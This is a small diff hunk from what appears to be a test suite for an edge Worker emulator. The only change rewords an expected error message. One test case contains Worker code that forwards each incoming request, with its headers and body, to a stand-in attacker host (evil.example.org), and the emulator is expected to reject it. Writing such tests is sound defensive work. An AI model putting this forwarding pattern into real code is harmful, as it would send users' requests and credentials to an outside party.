@@ -78,7 +78,7 @@ describe("a Worker at the edge emulator", () => {
             "another address",
             'export default { fetch: (r) => fetch(new Request("https://evil.example.org/", r)) };',
             501,
-            /another address/,
+            /changes the address/,
         ],
         [
             "a read of the origin's answer",
